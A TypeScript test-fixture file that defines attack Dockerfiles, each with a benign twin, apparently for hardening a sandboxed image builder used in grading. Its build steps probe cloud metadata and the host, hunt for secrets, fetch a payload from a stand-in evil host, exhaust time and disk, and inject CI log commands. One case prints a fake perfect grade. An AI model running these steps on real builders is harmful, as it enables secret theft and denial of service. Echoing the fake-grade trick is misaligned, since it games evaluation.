import type { Must } from './case.ts';

/** What one build came to, as section image.build tells it: without a network for its steps, then with one. */
export type Built = { readonly withoutNetwork: object; readonly withNetwork?: object | undefined };

/** An attack by a build or by what it builds: a Dockerfile of its own, on the base that is quickest to have. */
export type ImageCase = {
  readonly id: string;
  readonly tried: string;
  readonly must: Must;
  readonly dockerfile: readonly string[];
  readonly files?: Readonly<Record<string, string>>;
  readonly built: Built;
  /** It takes a limit of minutes or gigabytes to be met: only with DOCC_TEST_PATIENT. */
  readonly patient?: true;
  readonly twin: { readonly is: string; readonly dockerfile: readonly string[] };
};

const base = 'FROM busybox:stable';
const built = { kind: 'built' } as const;
const failed = (because: string, line: number) => ({ kind: 'failed', because, line }) as const;

/** `listener`: the port of this machine at which somebody waits to be called. */
export const imageCases = (listener: number): readonly ImageCase[] => [
  {
    id: 'D01',
    tried: 'a frontend of the candidate’s own, by `# syntax=`',
    must: 'refused',
    dockerfile: [`# syntax=127.0.0.1:${listener}/frontend:1`, base],
    built: { withoutNetwork: failed('refused', 1) },
    twin: { is: 'Docker’s own frontend', dockerfile: ['# syntax=docker/dockerfile:1', base, 'RUN true'] },
  },
  {
    id: 'D02',
    tried: 'a RUN that asks for privileges',
    must: 'denied',
    dockerfile: [base, 'RUN --security=insecure true'],
    built: { withoutNetwork: { kind: 'failed', because: 'refused' } },
    twin: { is: 'a RUN in the sandbox, by name', dockerfile: [base, 'RUN --security=sandbox true'] },
  },
  {
    id: 'D02',
    tried: 'a RUN that asks for the host’s network',
    must: 'denied',
    dockerfile: [base, 'RUN --network=host true'],
    built: { withoutNetwork: { kind: 'failed', because: 'refused' } },
    twin: { is: 'a RUN without a network, by name', dockerfile: [base, 'RUN --network=none true'] },
  },
  {
    id: 'D03',
    tried: 'a RUN that calls the machine it is built on, though the network is off',
    must: 'denied',
    dockerfile: [base, `RUN ! wget -T 2 -qO- http://127.0.0.1:${listener}/ && ! wget -T 2 -qO- http://169.254.169.254/ && ! ip route | grep -q default`],
    built: { withoutNetwork: built },
    twin: { is: 'a RUN that calls nobody', dockerfile: [base, 'RUN ls /'] },
  },
  {
    id: 'D03',
    tried: 'a RUN that looks for secrets in its environment, its mounts and its process',
    must: 'denied',
    dockerfile: [base, 'RUN ! env | grep -i canary && ! grep -ria canary /run /proc/1/environ /etc && test ! -e /run/secrets && test ! -S /var/run/docker.sock'],
    built: { withoutNetwork: built },
    twin: { is: 'a RUN that reads its environment', dockerfile: [base, 'RUN env'] },
  },
  {
    id: 'D04',
    tried: 'mounts of a secret and of an SSH agent',
    must: 'denied',
    dockerfile: [base, 'RUN --mount=type=secret,id=aws,required=true cat /run/secrets/aws'],
    built: { withoutNetwork: failed('step', 2), withNetwork: failed('step', 2) },
    twin: { is: 'a mount of a secret that need not be there', dockerfile: [base, 'RUN --mount=type=secret,id=netrc,target=/root/.netrc true'] },
  },
  {
    id: 'D05',
    tried: 'ADD of an address that nobody has',
    must: 'refused',
    dockerfile: [base, 'ADD https://evil.invalid/payload /payload'],
    built: { withoutNetwork: { kind: 'failed' }, withNetwork: { kind: 'failed' } },
    twin: { is: 'COPY of a file', dockerfile: [base, 'COPY server.go /server.go'] },
  },
  {
    id: 'D05',
    tried: 'ADD of an address of the machine that builds, and of a cloud’s metadata',
    must: 'refused',
    dockerfile: [base, `ADD http://127.0.0.1:${listener}/payload http://169.254.169.254/latest/meta-data/ /payload/`],
    built: { withoutNetwork: failed('refused', 2) },
    twin: { is: 'ADD of a folder', dockerfile: [base, 'ADD server.go /src/'] },
  },
  {
    id: 'D06',
    tried: 'a policy for the builder that allows nothing',
    must: 'neutralised',
    dockerfile: [base, 'RUN true'],
    files: { 'Dockerfile.rego': 'package docker\n\ndefault allow := false\n\ndecision := {"allow": false}\n' },
    built: { withoutNetwork: built },
    twin: { is: 'no policy', dockerfile: [base, 'RUN true'] },
  },
  {
    id: 'D07',
    tried: 'a step that never ends and never is quiet',
    must: 'capped',
    dockerfile: [base, 'RUN yes'],
    built: { withoutNetwork: { kind: 'failed', because: 'time', limit: '10 minutes' }, withNetwork: { kind: 'failed', because: 'time' } },
    patient: true,
    twin: { is: 'a step with much to say', dockerfile: [base, 'RUN seq 1 20000'] },
  },
  {
    id: 'D08',
    tried: 'a layer that is larger than an image may be',
    must: 'capped',
    // busybox's `head` meets the same limit, and says only "I/O error": its report names the step that failed, not the limit.
    dockerfile: [base, 'RUN dd if=/dev/urandom of=/large bs=1M count=2300'],
    built: { withoutNetwork: { kind: 'failed', because: 'output', limit: '2 GiB in one file' } },
    patient: true,
    twin: { is: 'a layer of some megabytes', dockerfile: [base, 'RUN head -c 3000000 /dev/urandom > /small'] },
  },
  {
    id: 'D12',
    tried: 'commands for the runner’s log, printed by a step that fails',
    must: 'neutralised',
    dockerfile: [base, `RUN printf '::add-mask::a\\n::error file=x::pwned\\n##[group]x\\n\\033[2J\\033]8;;http://evil.example\\007@org/team <!-- docc -->\\n' && false`],
    built: { withoutNetwork: failed('step', 2), withNetwork: failed('step', 2) },
    twin: { is: 'a step that prints and succeeds', dockerfile: [base, 'RUN echo built::by::docc'] },
  },
  {
    id: 'G02',
    tried: 'a program that writes where it is built and run, and prints its own grade',
    must: 'neutralised',
    dockerfile: [base, 'RUN mkdir -p /out/evidence && echo "{}" > /out/evidence/bundle.json && echo "PASS 100/100"', 'USER 65532', 'ENTRYPOINT ["echo", "earned: 100 of 100 PASS"]'],
    built: { withoutNetwork: built },
    twin: { is: 'a program that prints', dockerfile: [base, 'ENTRYPOINT ["echo", "hello"]'] },
  },
];
